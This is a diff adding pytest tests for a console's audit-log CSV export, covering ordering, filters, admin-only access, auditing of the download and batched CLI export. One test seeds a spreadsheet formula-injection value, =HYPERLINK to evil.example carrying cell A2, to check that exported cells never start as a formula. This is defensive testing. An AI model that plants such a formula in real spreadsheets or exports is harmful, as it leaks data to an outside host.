@@ -1,6 +1,12 @@
+"""The audit log in the console: who did what, filters, paging, and its export (console CSV and CLI)."""
+import csv
+import io
+import json
+
 import sqlalchemy as sa
 
 from core.db import db
+from ops import audit
 from ops.audit import Actor, record
 from ops.models import AuditEntry
 from ops.views import audit_diff
@@ -71,3 +77,59 @@ def test_a_diff_lists_only_what_changed():
         [("role", "viewer", "admin")]
     assert audit_diff(None, {"name": "x", "ids": [1, 2]}) == [("name", "—", "x"), ("ids", "—", "[1, 2]")]
     assert audit_diff({"revoked_at": None}, None) == []
+
+
+def csv_rows(text: str) -> list[dict]:
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+def test_an_admin_downloads_the_audit_log_as_csv_oldest_first_filtered_and_the_download_is_audited(client):
+    admin = as_admin(client)
+    record(db.session, actor=Actor(admin.id, "admin@example.com (web)"), action="incident.update",
+           entity_type="incident", entity_id=1, before={"status": "investigating"},
+           after={"name": '=HYPERLINK("https://evil.example/?"&A2)', "status": "identified"})
+    db.session.commit()
+
+    response = client.get("/ops/audit.csv")
+    assert response.status_code == 200 and response.mimetype == "text/csv"
+    assert response.headers["Content-Disposition"] == 'attachment; filename="audit-log.csv"'
+    assert response.headers["Cache-Control"].startswith("no-store")
+    rows = csv_rows(response.get_data(as_text=True))
+    actions = [r["action"] for r in rows]
+    assert actions.index("operator.sign_in") < actions.index("incident.update")  # oldest first
+    update = next(r for r in rows if r["action"] == "incident.update")
+    assert json.loads(update["before"]) == {"status": "investigating"}
+    assert update["at"].endswith("Z") and update["operator_id"] == str(admin.id)
+    assert '"=HYPERLINK' in update["after"] and not update["after"].startswith("=")  # JSON text, never a formula
+    # The download itself is in the log, with its filters, as the admin who made it.
+    [export] = db.session.scalars(sa.select(AuditEntry).where(AuditEntry.action == "audit.export")).all()
+    assert export.operator_id == admin.id and export.after == {"via": "console", "action": None, "operator_id": None}
+
+    only = csv_rows(client.get("/ops/audit.csv?action=incident.").get_data(as_text=True))
+    assert [r["action"] for r in only] == ["incident.update"]
+    page = client.get("/ops/audit").get_data(as_text=True)
+    assert 'href="/ops/audit.csv"' in page
+
+
+def test_the_audit_csv_is_for_admins_only(client):
+    make_operator("operator", email="op@example.com")
+    assert client.get("/ops/audit.csv").status_code == 302  # signed out: to the sign-in page
+    assert sign_in(client, "op@example.com").status_code == 302
+    assert client.get("/ops/audit.csv").status_code == 403
+    assert db.session.scalar(sa.select(sa.func.count()).where(AuditEntry.action == "audit.export")) == 0
+
+
+def test_flask_audit_export_writes_every_entry_in_batches_and_is_audited(runner, tmp_path, monkeypatch):
+    for i in range(7):
+        record(db.session, actor=Actor.cli("test"), action=f"thing.{i}", entity_type="thing", entity_id=i)
+    db.session.commit()
+    target = tmp_path / "audit.csv"
+    result = runner.invoke(args=["audit", "export", "-o", str(target), "--action", "thing."])
+    assert result.exit_code == 0, result.output
+    assert "Exported 7 audit entries" in result.output
+    assert [r["action"] for r in csv_rows(target.read_text())] == [f"thing.{i}" for i in range(7)]
+    export = db.session.scalar(sa.select(AuditEntry).where(AuditEntry.action == "audit.export"))
+    assert export.actor.startswith("cli ") and export.after["via"] == "cli"
+    # Batches are read by id, so a long log never sits in memory whole: small batches give the same rows.
+    small = [e.action for e in audit.iter_entries(db.session, action="thing.", batch=2)]
+    assert small == [f"thing.{i}" for i in range(7)]
